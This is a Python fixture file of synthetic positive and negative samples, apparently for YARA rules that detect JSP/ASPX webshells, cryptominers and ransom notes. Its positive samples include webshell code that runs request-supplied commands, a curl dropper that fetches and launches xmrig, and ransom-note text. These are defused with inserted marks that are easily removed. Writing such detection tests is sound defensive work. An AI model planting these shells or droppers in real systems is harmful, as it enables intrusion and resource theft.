"""Synthetic samples of the JSP and ASP/ASPX webshell, miner and ransom-note rules.

No working webshell is stored here: every sample is written with "§" inside its telling tokens
and the marks are removed only when the bytes are built at run time (see ``samples``)."""

from __future__ import annotations

from secops.detection.yara.sample_base import Sample

OTHER_SAMPLES: tuple[Sample, ...] = (
    # --- generic JSP ---------------------------------------------------------------------------
    Sample(
        "jsp_webshell_exec_request",
        True,
        "cmd.jsp",
        '<%@ page import="java.io.*" %><%\nif (request.getParameter("cmd") != null) {\n'
        '    Process p = Runtime.getRun§time().ex§ec(request.getPara§meter("cmd"));\n'
        "    InputStream in = p.getInputStream();\n"
        "    int c; while ((c = in.read()) != -1) out.print((char) c);\n}\n%>\n",
    ),
    Sample(
        "jsp_webshell_exec_request",
        True,
        "pb.jsp",
        '<%\nProcessBuilder b = new Process§Builder("/bin/sh", "-c", request.getPara§meter("c"));\n'
        "b.redirectErrorStream(true);\nProcess p = b.start();\n%>\n",
    ),
    Sample(
        "jsp_webshell_exec_request",
        False,
        "uptime.jsp",
        '<%@ page import="java.io.*" %><%\nProcess p = Runtime.getRun§time().ex§ec(new String[]{"uptime"});\n'
        "BufferedReader r = new BufferedReader(new InputStreamReader(p.getInputStream()));\n"
        "out.print(r.readLine());\n%>\n",
    ),
    Sample(
        "jsp_webshell_script_engine_request",
        True,
        "js.jsp",
        '<%\nnew javax.script.ScriptEngine§Manager().getEngine§ByName("js").ev§al(request.getPara§meter("c"));\n%>\n',
    ),
    Sample(
        "jsp_webshell_script_engine_request",
        False,
        "calc.jsp",
        '<%\nObject v = new javax.script.ScriptEngine§Manager().getEngine§ByName("js").eval("1 + 2");\n'
        "out.print(v);\n%>\n",
    ),
    Sample(
        "jsp_webshell_classloader_request",
        True,
        "cl.jsp",
        "<%!\nclass L extends Class§Loader { L(ClassLoader p) { super(p); }\n"
        "  Class d(byte[] b) { return define§Class(null, b, 0, b.length); } }\n%>\n"
        '<%\nbyte[] b = java.util.Base64.getDec§oder().decode(request.getPara§meter("d"));\n'
        "new L(getClass().getClassLoader()).d(b).newInstance();\n%>\n",
    ),
    Sample(
        "jsp_webshell_classloader_request",
        False,
        "avatar.jsp",
        '<%\nbyte[] img = java.util.Base64.getDecoder().decode(request.getParameter("img"));\n'
        'response.setContentType("image/png");\nresponse.getOutputStream().write(img);\n%>\n',
    ),
    # --- generic ASP/ASPX ----------------------------------------------------------------------
    Sample(
        "aspx_webshell_eval_request",
        True,
        "e.aspx",
        '<%@ Page Language="JScript" %>\n<% ev§al(Request.Fo§rm["c"]); %>\n',
    ),
    Sample("aspx_webshell_eval_request", True, "e.asp", '<%\nExec§ute(Requ§est("c"))\n%>\n'),
    Sample("aspx_webshell_eval_request", True, "e16.asp", '<%\nExec§ute(Requ§est("c"))\n%>\n', "utf-16"),
    Sample(
        "aspx_webshell_eval_request",
        False,
        "echo.asp",
        '<%\nResponse.Write(Server.HTMLEncode(Request("c")))\n%>\n',
    ),
    Sample(
        "aspx_webshell_process_request",
        True,
        "p.aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\nvoid Page_Load(object s, EventArgs e) {\n'
        '  var psi = new System.Diagnostics.ProcessStart§Info("cmd.exe", "/c " + Requ§est.Form["c"]);\n'
        "  psi.RedirectStandardOutput = true; psi.UseShellExecute = false;\n"
        "  Response.Write(System.Diagnostics.Process.Sta§rt(psi).StandardOutput.ReadToEnd());\n}\n</script>\n",
    ),
    Sample(
        "aspx_webshell_process_request",
        True,
        "w.asp",
        '<%@ LANGUAGE="VBScript" %>\n<%\nSet s = CreateObject("WScript.Sh§ell")\n'
        'Set x = s.Ex§ec("cmd /c " & Requ§est("c"))\nResponse.Write(x.StdOut.ReadAll())\n%>\n',
    ),
    Sample(
        "aspx_webshell_process_request",
        False,
        "recycle.aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\nvoid Recycle() {\n'
        '  System.Diagnostics.Process.Sta§rt("iisreset", "/restart");\n}\n</script>\n',
    ),
    # --- classic ASP techniques ---------------------------------------------------------------
    Sample(
        "asp_execute_input",
        True,
        "v.asp",
        '<%\nc = Requ§est.Form("c")\n\' reserved\nExec§ute c\n%>\n',
    ),
    Sample(
        "asp_execute_input",
        False,
        "news.asp",
        '<%\nSet rs = conn.Execute("SELECT title FROM news WHERE id=" & CLng(Request("id")))\n'
        'Response.Write Server.HTMLEncode(rs("title"))\n%>\n',
    ),
    Sample(
        "asp_execute_decoded",
        True,
        "r.asp",
        '<%\nExec§ute(StrRev§erse("))""c""(mroF.tseu§qeR(etucexE"))\n%>\n',
    ),
    Sample(
        "asp_execute_decoded",
        False,
        "crlf.asp",
        '<%\nResponse.Write "a" & Chr(13) & Chr(10) & StrReverse("cba")\n%>\n',
    ),
    Sample(
        "asp_shell_object_input",
        True,
        "sh.asp",
        '<%\nSet s = CreateObject(StrRev§erse("llehS.tpircSW"))\nc = Requ§est.Form("c")\n'
        'Set x = s.Ex§ec("cmd /c " & c)\nResponse.Write x.StdOut.ReadAll()\n%>\n',
    ),
    Sample(
        "asp_shell_object_input",
        False,
        "backup.asp",
        '<%\nSet s = CreateObject("WScript.Sh§ell")\ns.Run "cscript //nologo backup.vbs", 0, True\n'
        'Response.Write "page " & Server.HTMLEncode(Request("page"))\n%>\n',
    ),
    Sample(
        "asp_script_control_input",
        True,
        "sc.asp",
        '<%\nSet sc = Server.CreateObject("MSScript§Control.Script§Control")\nsc.Language = "VBScript"\n'
        'sc.Add§Code Requ§est.Form("c")\n%>\n',
    ),
    Sample(
        "asp_script_control_input",
        False,
        "calc.asp",
        '<%\nSet sc = Server.CreateObject("MSScript§Control.Script§Control")\nsc.Language = "VBScript"\n'
        'Response.Write sc.Eval("1 + 2")\n%>\n',
    ),
    Sample(
        "asp_file_dropper_input",
        True,
        "up.asp",
        '<%\nSet fs = CreateObject("Scripting.File§SystemObject")\n'
        'Set f = fs.Create§TextFile(Server.MapPath(Requ§est.Form("p")), True)\n'
        'f.Write Requ§est.Form("b")\nf.Close\n%>\n',
    ),
    Sample(
        "asp_file_dropper_input",
        False,
        "upload.asp",
        '<%\nSet s = CreateObject("ADODB.Str§eam")\n'
        "s.Type = 1: s.Open: s.Write Request.BinaryRead(Request.TotalBytes)\n"
        's.SaveTo§File Server.MapPath("upload/" & Year(Now) & Second(Now) & ".jpg"), 2\n%>\n',
    ),
    Sample(
        "asp_script_encoded",
        True,
        "enc.asp",
        '<%@ Language="VBScript.En§code" %>\n<%#@~§^KAAAAA==W!Z.n,Y+dOP{8Tp-HIQBAA==^§#~@%>\n',
    ),
    Sample(
        "asp_script_encoded",
        False,
        "encoder_help.html",
        "<p>Encoded scripts start with a marker and a length; the Script Encoder (screnc.exe) "
        "turns VBScript into VBScript.Encode.</p>\n",
    ),
    Sample(
        "asp_utf7_codepage",
        True,
        "u7.asp",
        "<%@ code§page=65000 %>\n+AD§w-%Response.Write 1%+AD4-\n",
    ),
    Sample(
        "asp_utf7_codepage",
        False,
        "gbk.asp",
        '<%@ CODEPAGE=936 %>\n<% Response.Write "+ADw- is how UTF-7 writes a bracket" %>\n',
    ),
    Sample(
        "asp_file_manager_drives",
        True,
        "fm.asp",
        '<%\nSet fs = CreateObject("Scripting.File§SystemObject")\nFor Each d In fs.Dri§ves\n'
        '  Response.Write d.Drive§Letter & " " & d.TotalSize & "<br>"\nNext\n'
        'If Requ§est("a") = "del" Then fs.Delete§File Requ§est("f"), True\n%>\n',
    ),
    Sample(
        "asp_file_manager_drives",
        False,
        "space.asp",
        '<%\nSet fs = CreateObject("Scripting.File§SystemObject")\nFor Each d In fs.Drives\n'
        '  Response.Write d.DriveLetter & " " & d.FreeSpace & "<br>"\nNext\n%>\n',
    ),
    # --- ASPX techniques -----------------------------------------------------------------------
    Sample(
        "aspx_process_input",
        True,
        "tb.aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\nvoid Go(object s, EventArgs e) {\n'
        '  var p = new System.Diagnostics.Pro§cess();\n  p.StartInfo.FileName = "power§shell.exe";\n'
        "  p.StartInfo.Arguments = txtCmd.Te§xt;\n  p.Start();\n}\n</script>\n"
        '<form runat="server"><asp:TextBox ID="txtCmd" runat="server" /></form>\n',
    ),
    Sample(
        "aspx_process_input",
        False,
        "roster.aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\nvoid Save(object s, EventArgs e) {\n'
        '  lblMsg.Text = "saved " + txtName.Text;\n  System.Diagnostics.Process.St§art("iisreset", "/restart");\n}\n'
        '</script>\n<form runat="server"><asp:TextBox ID="txtName" runat="server" /></form>\n',
    ),
    Sample(
        "aspx_sql_command_exec",
        True,
        "sql.aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\nvoid Go(object s, EventArgs e) {\n'
        '  var cm = new System.Data.SqlClient.Sql§Command("exec master..xp_cmd§shell \'" + txtCmd.Te§xt + "\'", cn);\n'
        "  cm.ExecuteReader();\n}\n</script>\n",
    ),
    Sample(
        "aspx_sql_command_exec",
        False,
        "grades.aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\nvoid Go(object s, EventArgs e) {\n'
        '  var cm = new System.Data.SqlClient.SqlCommand("SELECT score FROM grades WHERE id = @i", cn);\n'
        '  cm.Parameters.AddWithValue("@i", txtId.Text);\n  gv.DataSource = cm.ExecuteReader();\n}\n</script>\n',
    ),
    Sample(
        "aspx_assembly_load_input",
        True,
        "load.aspx",
        '<%@ Page Language="C#" %>\n<%\nbyte[] raw = Convert.FromBase§64String(Requ§est.Form["d"]);\n'
        'System.Reflection.Assembly.Lo§ad(raw).CreateInstance("U").Equals(this);\n%>\n',
    ),
    Sample(
        "aspx_assembly_load_input",
        False,
        "providers.aspx",
        '<%@ Page Language="C#" %>\n<%\nvar a = System.Reflection.Assembly.LoadWithPartialName("System.Data");\n'
        'Response.Write(a.FullName + Server.HtmlEncode(Request.QueryString["q"]));\n%>\n',
    ),
    Sample(
        "aspx_codedom_compile_input",
        True,
        "cc.aspx",
        '<%@ Page Language="C#" %>\n<%\nvar prov = new Microsoft.CSharp.CSharpCode§Provider();\n'
        "var cp = new System.CodeDom.Compiler.CompilerParameters();\n"
        'prov.CompileAssembly§FromSource(cp, Requ§est.Form["src"]).CompiledAssembly.CreateInstance("U");\n%>\n',
    ),
    Sample(
        "aspx_codedom_compile_input",
        False,
        "build.aspx",
        '<%@ Page Language="C#" %>\n<%\nvar prov = new Microsoft.CSharp.CSharpCodeProvider();\n'
        'Response.Write(prov.FileExtension + Server.HtmlEncode(Request.QueryString["q"]));\n%>\n',
    ),
    Sample(
        "aspx_jscript_unsafe_eval",
        True,
        "j.aspx",
        '<%@ Page Language="Jscript" %>\n<%\nvar c = Session["k"];\nResponse.Write(ev§al(c, "uns§afe"));\n%>\n',
    ),
    Sample(
        "aspx_jscript_unsafe_eval",
        False,
        "j_ok.aspx",
        '<%@ Page Language="Jscript" %>\n<%\nvar c = 1 + 2;\nResponse.Write("unsafe input rejected: " + c);\n%>\n',
    ),
    Sample(
        "aspx_file_writer_input",
        True,
        "fw.aspx",
        '<%@ Page Language="C#" %>\n<%\nSystem.IO.File.WriteAll§Text(Server.MapPath(Requ§est.Form["p"]), '
        'Requ§est.Form["b"]);\n%>\n',
    ),
    Sample(
        "aspx_file_writer_input",
        False,
        "photo.aspx",
        '<%@ Page Language="C#" %>\n<%\nvar f = Request.Files[0];\n'
        'f.SaveAs(Server.MapPath("~/photos/") + Guid.NewGuid() + ".jpg");\n'
        'Response.Write(Request.Form["album"]);\n%>\n',
    ),
    # --- JSP techniques ------------------------------------------------------------------------
    Sample(
        "jsp_exec_input",
        True,
        "rt.jsp",
        '<%\nRuntime rt = Runtime.getRun§time();\nString c = request.getHea§der("X-C");\n'
        "Process p = rt.ex§ec(c);\nout.print(p.waitFor());\n%>\n",
    ),
    Sample(
        "jsp_exec_input",
        False,
        "search.jsp",
        '<% String q = request.getParameter("q"); %>\n<script>\n'
        "var m = /id=(\\d+)/.ex§ec(location.search);\n</script>\n",
    ),
    Sample(
        "jsp_file_writer_input",
        True,
        "w.jsp",
        '<%\nString f = request.getPara§meter("f");\njava.io.Writer w = new java.io.File§Writer(f);\n'
        'w.write(request.getPara§meter("b"));\nw.close();\n%>\n',
    ),
    Sample(
        "jsp_file_writer_input",
        False,
        "visits.jsp",
        '<%\njava.io.Writer w = new java.io.File§Writer(application.getRealPath("/WEB-INF/visits.log"), true);\n'
        'w.write(request.getRemoteAddr() + " " + request.getParameter("page") + "\\n");\nw.close();\n%>\n',
    ),
    Sample(
        "jsp_reflection_runtime",
        True,
        "refl.jsp",
        '<%\nClass c = Class.for§Name("java.lang.Run§time");\nObject r = c.getMe§thod("getRuntime").invoke(null);\n'
        'c.getMe§thod("ex§ec", String.class).invoke(r, request.getPara§meter("c"));\n%>\n',
    ),
    Sample(
        "jsp_reflection_runtime",
        False,
        "bean.jsp",
        '<%\nClass c = Class.forName("edu.school.Roster");\nObject r = c.getMethod("current").invoke(null);\n'
        'out.print(r + request.getParameter("q"));\n%>\n',
    ),
    Sample(
        "jsp_define_class_input",
        True,
        "dc.jsp",
        "<%!\nclass L extends Class§Loader { Class d(byte[] b) { return define§Class(null, b, 0, b.length); } }\n%>\n"
        "<%\nbyte[] b = new byte[4096];\nint n = request.getInput§Stream().read(b);\n"
        "new L().d(java.util.Arrays.copyOf(b, n)).newInstance();\n%>\n",
    ),
    Sample(
        "jsp_define_class_input",
        False,
        "loader_info.jsp",
        '<%\nClassLoader l = getClass().getClassLoader();\nout.print(l + " " + request.getParameter("q"));\n%>\n',
    ),
    Sample(
        "jsp_script_engine_input",
        True,
        "js2.jsp",
        '<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="2.0"><jsp:script§let>\n'
        'Object e = new javax.script.ScriptEngine§Manager().getEngine§ByName("js");\n'
        "String s = request.getRea§der().readLine();\nout.print(((javax.script.ScriptEngine) e).ev§al(s));\n"
        "</jsp:scriptlet></jsp:root>\n",
    ),
    Sample(
        "jsp_script_engine_input",
        False,
        "engines.jsp",
        "<%\nfor (Object f : new javax.script.ScriptEngine§Manager().getEngineFactories()) out.print(f);\n"
        'out.print(request.getParameter("q"));\n%>\n',
    ),
    Sample(
        "jsp_unicode_escaped",
        True,
        "u.jsp",
        "<%\n\\u0052\\u0075\\u006e\\u0074§\\u0069\\u006d\\u0065\\u002e§\\u0067\\u0065\\u0074\\u0052§\\u0075\\u006e"
        "\\u0074\\u0069§\\u006d\\u0065\n%>\n",
    ),
    Sample(
        "jsp_unicode_escaped",
        False,
        "i18n.jsp",
        '<%\nString title = "Caf\\u00e9 \\u4e2d\\u6587 \\u00e0\\u00e8";\nout.print(title);\n%>\n',
    ),
    Sample(
        "jsp_expression_language_exec",
        True,
        "el.jsp",
        "<p>${Runtime.getRun§time().ex§ec(param.c)}</p>\n",
    ),
    Sample(
        "jsp_expression_language_exec",
        False,
        "el_ok.jsp",
        "<p>${fn:escapeXml(param.q)} ${student.runtimeHours}</p>\n",
    ),
    Sample(
        "jsp_memshell_registration",
        True,
        "ms.jsp",
        "<%!\nclass F implements javax.servlet.Fil§ter { /* doFilter runs the request */ }\n%>\n"
        '<%\nObject sc = pageContext.getAttribute("ctx");\n'
        "((org.apache.catalina.core.Standard§Context) sc)\n"
        "    .addFilter§Def(new org.apache.tomcat.util.descriptor.web.FilterDef());\n%>\n",
    ),
    Sample(
        "jsp_memshell_registration",
        False,
        "ctx_info.jsp",
        '<%\nout.print(application.getServerInfo() + " StandardContext path " + request.getContextPath());\n%>\n',
    ),
    # --- miners --------------------------------------------------------------------------------
    Sample(
        "miner_stratum_url",
        True,
        "pool.conf",
        "# pool settings\nurl = stra§tum+tcp://pool.example.org:3333\nuser = 4Aabcdef\n",
    ),
    Sample(
        "miner_stratum_url",
        False,
        "notes.txt",
        "Stratum is the protocol pools speak; block any tcp:// URL to known pools at the firewall.\n",
    ),
    Sample(
        "miner_xmrig",
        True,
        "config.json",
        '{\n  "autosave": true,\n  "donate-le§vel": 1,\n  "cpu": {"enabled": true},\n'
        '  "pools": [\n    {"algo": "rx§/0", "url": "pool.example.org:443", "user": "x", "keepalive": true}\n  ]\n}\n',
    ),
    Sample(
        "miner_xmrig",
        True,
        "start.sh",
        "#!/bin/sh\ncd /var/tmp/.cache\n./xm§rig -o pool.example.org:3333 -u 4Aabcdef -p x --donate-level 1 -B\n",
    ),
    Sample(
        "miner_xmrig",
        True,
        "kworker",
        "\x7fELF\x02\x01\x01\x00" + "\x00" * 56 + "XM§Rig 6.21.0 built for linux\x00--donate-le§vel\x00rando§mx\x00",
    ),
    Sample(
        "miner_xmrig",
        False,
        "miner_detection.yml",
        "title: Crypto miner process\ndetection:\n  selection:\n    CommandLine|contains:\n"
        "      - 'xmrig'\n      - '--donate-level'\n      - 'randomx'\n  condition: selection\n",
    ),
    Sample(
        "miner_xmrig",
        False,
        "lb.json",
        '{\n  "pools": [\n    {"algo": "round-robin", "backends": ["10.0.0.2", "10.0.0.3"]}\n  ]\n}\n',
    ),
    Sample(
        "miner_browser_script",
        True,
        "footer.html",
        '<script src="https://coinh§ive.com/lib/coinh§ive.min.js"></script>\n'
        "<script>var miner = new CoinH§ive.Anonymous('SITE_KEY'); miner.start();</script>\n",
    ),
    Sample(
        "miner_browser_script",
        False,
        "footer_ok.html",
        '<script src="/js/beehive.min.js"></script>\n'
        '<script>var hive = new Hive.Colony("school"); hive.start();</script>\n',
    ),
    Sample(
        "miner_linux_dropper",
        True,
        "update.sh",
        "#!/bin/sh\ncurl -fsSL http://203.0.113.5/xm§rig -o /tmp/.x\nch§mod +x /tmp/.x\n"
        "nohup /tmp/.x >/dev/null 2>&1 &\n",
    ),
    Sample(
        "miner_linux_dropper",
        False,
        "cleanup.sh",
        "#!/bin/sh\n# remove coin miners left by an intrusion\npkill -f xmrig\nrm -f /tmp/.x\n",
    ),
    # --- ransom notes --------------------------------------------------------------------------
    Sample(
        "ransom_note_english",
        True,
        "README_DECRYPT.txt",
        "ATTENTION!\n\nAll your files have been encry§pted with strong encryption.\n"
        "To get the decryp§tion key you must pay 0.05 Bit§coin to the address below.\n"
        "Install Tor Bro§wser and open our site. Do not ren§ame encrypted files.\n",
    ),
    Sample(
        "ransom_note_english",
        False,
        "backup_policy.txt",
        "Backups: your files have been encrypted with the school's PGP public key before upload.\n"
        "Ask the IT office to restore a file.\n",
    ),
    Sample(
        "ransom_note_chinese",
        True,
        "解密说明.txt",
        "您好！\n您的所有文件已被加§密。\n如需恢复，请支付 0.1 比特§币 购买解密工§具。\n",
    ),
    Sample(
        "ransom_note_chinese",
        False,
        "上传说明.txt",
        "上传的文件已被加§密存储，请联系管理员获取密钥。\n",
    ),
    Sample(
        "ransom_note_known_families",
        True,
        "@Please_Read_Me@.txt",
        "Q: What's wrong with my computer?\nA: Ooops, your important files are encr§ypted.\n",
    ),
    Sample(
        "ransom_note_known_families",
        False,
        "faq.txt",
        "Q: What's wrong with my login?\nA: Ooops, your session expired. Sign in again.\n",
    ),
)
